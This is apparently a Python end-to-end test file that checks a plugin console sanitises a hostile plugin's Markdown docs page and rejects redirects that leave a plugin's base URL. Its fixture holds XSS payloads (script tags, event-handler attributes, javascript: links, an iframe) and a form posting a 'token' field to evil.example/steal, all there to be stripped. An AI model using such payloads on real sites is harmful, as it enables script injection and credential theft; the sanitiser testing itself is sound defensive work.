"""Plugins → Docs end to end: real plugins serving Markdown (one of them hostile), registered
and approved through the API, their pages fetched by a real gateway and shown in Chromium."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from console.browser import Console, check_axe, shot, sign_in
from console.test_pages import eventually
from playwright.sync_api import Browser, Page, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, RedirectResponse, Response
from starlette.routing import Route
from support.manifests import seed
from support.procs import CoreProcess, admin_headers, register, registration_token
from support.upstream import serve_in_thread

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ("user-management", "hr", "accounting")
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB"
    "0C8AAAAASUVORK5CYII="
)
MALICIOUS = f"""# Evil Plugin

Purpose: <script>window.pwned = "script"</script>steals nothing, honestly.

<img src="x" onerror="window.pwned = 'onerror'">
<img src="https://tracker.example/pixel.gif" alt="tracker">

![remote](https://tracker.example/remote.png) ![inline pixel]({PIXEL})

<a href="javascript:window.pwned='link'" target="_blank" onclick="window.pwned='click'">click me</a>
[markdown js](javascript:window.pwned='md') [Vivified](https://vivified.example/)

<p style="position:fixed;top:0">covering text</p>

<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal"><input name="token"></form>
<svg onload="window.pwned='svg'"></svg>

## Setup

Run it.

### Settings & secrets

None.

## Endpoints

`GET /api/items/{{id}}` returns an item.

## Setup
"""


async def health(_request: Request) -> Response:
    return JSONResponse({"status": "ok"})


def docs_app() -> Starlette:
    """One upstream serving every plugin of the test under its own base path."""

    def text(body: str) -> Any:
        async def endpoint(_request: Request) -> Response:
            return PlainTextResponse(body, media_type="text/markdown")

        return endpoint

    async def off_base(request: Request) -> Response:
        return RedirectResponse("http://127.0.0.2:9/docs.md", status_code=302)

    routes = [
        Route("/health", health),
        Route("/evil/docs.md", text(MALICIOUS)),
        Route("/evil/v2.md", text("# Evil Plugin v2\n\n## Changed\n\nNew text.\n")),
        Route("/moved/docs.md", off_base),
    ]
    for name in EXAMPLES:
        routes.append(
            Route(f"/{name}/docs.md", text((ROOT / "examples" / name / "docs.md").read_text()))
        )
    return Starlette(routes=routes)


def example_manifest(name: str, base_url: str) -> dict[str, Any]:
    manifest: dict[str, Any] = json.loads((ROOT / "examples" / name / "manifest.json").read_text())
    assert manifest["docs"] == "/docs.md"
    return manifest | {"base_url": base_url}


class World:
    def __init__(self, console: Console, url: str, tokens: dict[str, str]) -> None:
        self.console = console
        self.url = url
        self.tokens = tokens

    def api(self) -> httpx.Client:
        return self.console.api()


def approve(c: httpx.Client, pid: str) -> None:
    r = c.post(f"/plugins/{pid}/enable", headers=admin_headers())
    assert r.status_code == 200, r.text


@pytest.fixture(scope="module")
def world(
    tmp_path_factory: pytest.TempPathFactory, browser: Browser, axe_source: str
) -> Iterator[World]:
    env = {"VIVIFIED_AUDIT_FLUSH_INTERVAL": "0.01", "VIVIFIED_HEALTH_INTERVAL": "3600"}
    gw = CoreProcess("gateway", Path(tmp_path_factory.mktemp("docs")), env).start()
    try:
        with (
            serve_in_thread(docs_app()) as url,
            httpx.Client(base_url=gw.url, timeout=30, trust_env=False) as c,
        ):
            manifests = [
                seed(
                    id="evil-docs",
                    name="Evil Plugin",
                    base_url=f"{url}/evil",
                    docs="/docs.md",
                    contracts=["EvilPlugin"],
                ),
                seed(
                    id="moved-docs",
                    base_url=f"{url}/moved",
                    docs="/docs.md",
                    contracts=["MovedPlugin"],
                ),
                seed(
                    id="change-docs",
                    name="Change Plugin",
                    base_url=f"{url}/evil",
                    docs="/docs.md",
                    contracts=["ChangePlugin"],
                ),
                seed(
                    id="waiting-docs",
                    base_url=f"{url}/evil",
                    docs="/docs.md",
                    contracts=["WaitPlugin"],
                ),
            ] + [example_manifest(n, f"{url}/{n}") for n in EXAMPLES]
            tokens: dict[str, str] = {}
            for m in manifests:
                r = register(c, m, registration_token(c))
                assert r.status_code == 201, r.text
                assert r.json()["status"] == "registered", r.text
                tokens[m["id"]] = r.json()["token"]
            for pid in (
                "evil-docs",
                "change-docs",
                "moved-docs",
                "user-management",
                "human-resources",
                "accounting",
            ):
                approve(c, pid)
            yield World(Console(gw, browser, axe_source), url, tokens)
    finally:
        gw.stop()


@pytest.fixture
def console(world: World) -> Console:
    return world.console


def open_docs(page: Page, pid: str) -> None:
    """Open the plugin's docs page once core has fetched it (bounded)."""
    ok = eventually(
        lambda: (r := page.goto(f"/console/plugins/{pid}/docs")) is not None and r.ok, 15
    )
    assert ok, f"core never showed the docs of {pid}"


def test_malicious_docs_are_sanitised_with_a_toc(page: Page) -> None:
    sign_in(page)
    open_docs(page, "evil-docs")
    expect(page.get_by_role("heading", level=1)).to_contain_text("Evil Plugin")
    doc = page.locator("article.plugin-doc")
    expect(doc).to_contain_text("steals nothing, honestly.")
    # The table of contents: the doc's headings, slugified ids, duplicates numbered.
    toc = page.get_by_role("navigation", name="Contents")
    links = toc.get_by_role("link")
    expect(links).to_have_text(["Evil Plugin", "Setup", "Settings & secrets", "Endpoints", "Setup"])
    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
    assert hrefs == [
        "#doc-evil-plugin",
        "#doc-setup",
        "#doc-settings-secrets",
        "#doc-endpoints",
        "#doc-setup-2",
    ]
    toc.get_by_role("link", name="Endpoints").click()
    expect(page).to_have_url(re.compile(r"#doc-endpoints$"))
    expect(doc.locator("h3#doc-endpoints")).to_have_text("Endpoints")
    # None of the malicious parts survived.
    found = page.evaluate(
        """() => {
            const d = document.querySelector("article.plugin-doc");
            const all = [...d.querySelectorAll("*")];
            return {
                scripts: [...document.scripts].map(s => s.getAttribute("src")),
                handlers: all.flatMap(e => [...e.attributes].map(a => a.name))
                    .filter(n => n.startsWith("on")),
                styled: all.filter(e => e.hasAttribute("style")).length,
                targets: all.filter(e => e.hasAttribute("target")).length,
                embeds: d.querySelectorAll(
                    "iframe, form, input, svg, object, embed, base, meta").length,
                images: [...d.querySelectorAll("img")].map(i => i.getAttribute("src")),
                links: [...d.querySelectorAll("a")].map(a => [a.getAttribute("href"), a.rel]),
                pwned: window.pwned ?? null,
            };
        }"""
    )
    assert found["scripts"] == ["/console/static/htmx.min.js", "/console/static/console.js"]
    assert found["handlers"] == []
    assert found["styled"] == 0
    assert found["targets"] == 0
    assert found["embeds"] == 0
    assert found["images"] == [PIXEL]  # remote images are gone, inline data stays
    assert [href for href, _ in found["links"]] == [None, "https://vivified.example/"]
    assert all(rel == "noopener noreferrer" for _, rel in found["links"])
    assert found["pwned"] is None
    expect(doc).to_contain_text("remote")  # a remote image leaves its alt text
    check_axe(page)
    shot(page, "plugin-docs")


def test_docs_section_lists_active_plugins_pages(page: Page) -> None:
    sign_in(page)
    page.get_by_role("navigation", name="Console").get_by_role("link", name="Docs").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Plugin documentation")
    table = page.get_by_role("table")
    for name in ("Evil Plugin", "User Management Plugin", "HR Plugin"):
        expect(table.get_by_role("link", name=f"{name} documentation")).to_be_visible()
    expect(table).not_to_contain_text("waiting-docs")  # not active: not listed
    expect(table.get_by_role("row").filter(has_text="moved-docs")).to_contain_text(
        "not under the plugin's base URL"
    )
    check_axe(page)
    shot(page, "docs-index")
    table.get_by_role("link", name="HR Plugin documentation").click()
    expect(page.get_by_role("navigation", name="Contents")).to_contain_text("Endpoints")


@pytest.mark.parametrize("name", EXAMPLES)
def test_example_plugins_docs_render(world: World, page: Page, name: str) -> None:
    manifest = json.loads((ROOT / "examples" / name / "manifest.json").read_text())
    source = (ROOT / "examples" / name / "docs.md").read_text()
    headings = [
        line.lstrip("#").strip().replace("`", "")
        for line in source.splitlines()
        if re.match(r"#{1,3} ", line)
    ]
    sign_in(page)
    open_docs(page, manifest["id"])
    toc = page.get_by_role("navigation", name="Contents")
    texts = [t.strip() for t in toc.get_by_role("link").all_inner_texts()]
    assert texts == headings
    doc = page.locator("article.plugin-doc")
    assert doc.locator("table").count() >= 1  # the endpoint tables render as tables
    check_axe(page)


def test_docs_of_a_plugin_not_yet_approved_are_not_fetched(page: Page) -> None:
    sign_in(page)
    response = page.goto("/console/plugins/waiting-docs/docs")
    assert response is not None
    assert response.status == 404
    expect(page.get_by_role("main")).to_contain_text("no documentation page")
    check_axe(page)


def test_off_base_redirect_is_not_followed(world: World, page: Page) -> None:
    sign_in(page)
    page.goto("/console/docs")
    row = page.get_by_role("row").filter(has_text="moved-docs")
    expect(row).to_contain_text("not available")
    response = page.goto("/console/plugins/moved-docs/docs")
    assert response is not None
    assert response.status == 404
    expect(page.get_by_role("main")).to_contain_text("not under the plugin's base URL")


def test_a_changed_manifest_fetches_the_page_again(world: World, page: Page) -> None:
    with world.api() as c:
        manifest = c.get("/plugins/change-docs", headers=admin_headers()).json()["manifest"]
        changed = {**manifest, "docs": "/v2.md", "version": "1.0.1"}
        r = register(c, changed, world.tokens["change-docs"])
        assert r.status_code == 200, r.text
        assert not r.json()["diff"]["widened"], r.text
        assert c.get("/plugins/change-docs", headers=admin_headers()).json()["status"] == "active"
    sign_in(page)

    def shows_v2() -> bool:
        page.goto("/console/plugins/change-docs/docs")
        return "Evil Plugin v2" in (page.locator("article.plugin-doc").text_content() or "")

    assert eventually(shows_v2, 15)
    expect(page.get_by_role("navigation", name="Contents")).to_contain_text("Changed")
    expect(page.locator("article.plugin-doc")).not_to_contain_text("steals nothing")
